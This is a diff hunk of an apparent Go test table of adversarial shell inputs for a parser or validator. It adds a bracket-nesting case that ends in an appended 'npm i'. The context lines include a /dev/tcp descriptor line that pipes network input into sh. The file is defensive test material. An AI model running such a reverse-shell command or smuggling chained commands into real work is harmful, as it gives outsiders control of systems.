@@ -105,6 +105,7 @@ func adversarial() []pattern {
 		{"one descriptor again", "", "exec 3<>/dev/tcp/a/1;cat <&3|sh;", "", false},
 		{"groups of a regular expression", "find . -regex '", "(a|", "'", false},
 		{"function prefix", "", "function f { ", "", false},
+		{"parted brackets", "echo \"", "(\t(", "\"; ((a); (b)); npm i", false},
 	}
 }
 
